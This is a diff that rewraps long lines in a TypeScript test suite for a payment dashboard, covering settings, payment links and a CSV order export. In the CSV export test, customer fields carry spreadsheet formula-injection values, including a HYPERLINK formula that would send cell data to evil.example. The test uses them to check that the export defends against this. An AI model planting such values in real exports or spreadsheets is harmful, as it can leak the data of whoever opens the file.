@@ -34,7 +34,10 @@ describe('dashboard shop pages', () => {
   }
 
   async function auditActions(action: string) {
-    const { rows } = await testApp.database.db.query<{ actor_label: string; details: Record<string, unknown> }>(
+    const { rows } = await testApp.database.db.query<{
+      actor_label: string;
+      details: Record<string, unknown>;
+    }>(
       'SELECT actor_label, details FROM audit_log WHERE action = $1 AND merchant_id = $2 ORDER BY created_at',
       [action, merchant.merchantId],
     );
@@ -187,7 +190,9 @@ describe('dashboard shop pages', () => {
       expect(badColour.body).toContain('Brand colour: must be a colour in the form #rrggbb');
 
       // In live mode plain http is refused too, as PATCH /v1/merchant refuses it from live credentials.
-      expect((await submit(testApp, owner, '/dashboard/mode', { csrf_token: csrf, mode: 'live' })).statusCode).toBe(303);
+      expect(
+        (await submit(testApp, owner, '/dashboard/mode', { csrf_token: csrf, mode: 'live' })).statusCode,
+      ).toBe(303);
       const live = await form(owner, '/dashboard/settings');
       const http = await submit(testApp, owner, '/dashboard/settings/branding', {
         csrf_token: live.csrf,
@@ -249,7 +254,9 @@ describe('dashboard shop pages', () => {
         default_locale: 'EN',
         session_lifetime_minutes: '60',
       });
-      expect((await findMerchantById(testApp.database.db, merchant.merchantId))!.defaultCallbacks).toEqual({});
+      expect((await findMerchantById(testApp.database.db, merchant.merchantId))!.defaultCallbacks).toEqual(
+        {},
+      );
     });
 
     it('changes a payment method through the payment-method settings service, and explains why it is hidden for a checkout', async () => {
@@ -274,8 +281,14 @@ describe('dashboard shop pages', () => {
       expect(wallet!.enabled).toBe(false);
 
       const checkout = await checkoutFor('WHY-1', { email: 'why@customer.test' }, 50);
-      const why = await page(testApp, viewer, `/dashboard/settings?checkout=${checkout.checkout_id}&device=mobile`);
-      expect(why.body).toContain('wallet</strong> is hidden: wallet is disabled in the payment method settings');
+      const why = await page(
+        testApp,
+        viewer,
+        `/dashboard/settings?checkout=${checkout.checkout_id}&device=mobile`,
+      );
+      expect(why.body).toContain(
+        'wallet</strong> is hidden: wallet is disabled in the payment method settings',
+      );
       expect(why.body).toMatch(/invoice<\/strong> is hidden: invoice needs an amount of at least/);
 
       const badRange = await submit(testApp, owner, '/dashboard/settings/payment-methods/invoice', {
@@ -354,7 +367,11 @@ describe('dashboard shop pages', () => {
       );
       expect(rows.map((row) => row.id)).toEqual([linkId]);
 
-      const api = await testApp.app.inject({ method: 'GET', url: `/v1/payment-links/${linkId}`, headers: merchant.headers });
+      const api = await testApp.app.inject({
+        method: 'GET',
+        url: `/v1/payment-links/${linkId}`,
+        headers: merchant.headers,
+      });
       expect(api.json()).toMatchObject({
         status: 'ACTIVE',
         usage: 'single',
@@ -365,7 +382,9 @@ describe('dashboard shop pages', () => {
       const detail = await page(testApp, support, location);
       expect(detail.body).toContain('The payment link was created');
       expect(detail.body).toContain(`value="${url}"`);
-      expect(detail.body).toMatch(/<div class="dash-qr" role="img" aria-label="QR code of the link [^"]+"><svg /);
+      expect(detail.body).toMatch(
+        /<div class="dash-qr" role="img" aria-label="QR code of the link [^"]+"><svg /,
+      );
       expect(detail.body).toContain('data-copy="link-url" hidden');
 
       const opened = await testApp.app.inject({ method: 'GET', url: new URL(url).pathname });
@@ -424,12 +443,18 @@ describe('dashboard shop pages', () => {
         first_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
         last_name: '+1',
       });
-      await checkoutFor('@SUM(1+1)', { email: 'plain@customer.test', first_name: 'Ada', last_name: 'Lovelace' });
+      await checkoutFor('@SUM(1+1)', {
+        email: 'plain@customer.test',
+        first_name: 'Ada',
+        last_name: 'Lovelace',
+      });
 
       const all = await page(testApp, viewer, '/dashboard/orders.csv');
       expect(all.statusCode).toBe(200);
       expect(all.headers['content-type']).toBe('text/csv; charset=utf-8');
-      expect(all.headers['content-disposition']).toMatch(/^attachment; filename="orders-test-\d{4}-\d{2}-\d{2}\.csv"$/);
+      expect(all.headers['content-disposition']).toMatch(
+        /^attachment; filename="orders-test-\d{4}-\d{2}-\d{2}\.csv"$/,
+      );
       const rows = csvRows(all.body);
       expect(rows[0]).toBe(
         'order_id,merchant_order_id,status,currency,total,authorized,captured,refunded,customer_email,customer_name,country,created_at',
@@ -455,7 +480,8 @@ describe('dashboard shop pages', () => {
     it('stops at the row limit and says so in the last line', async () => {
       const scope = { merchantId: merchant.merchantId, livemode: false };
       let text = '';
-      for await (const piece of ordersCsv(testApp.database.db, scope, parseOrderFilters({}), 2)) text += piece;
+      for await (const piece of ordersCsv(testApp.database.db, scope, parseOrderFilters({}), 2))
+        text += piece;
       const rows = csvRows(text);
       expect(rows).toHaveLength(4);
       expect(rows[3]).toBe(
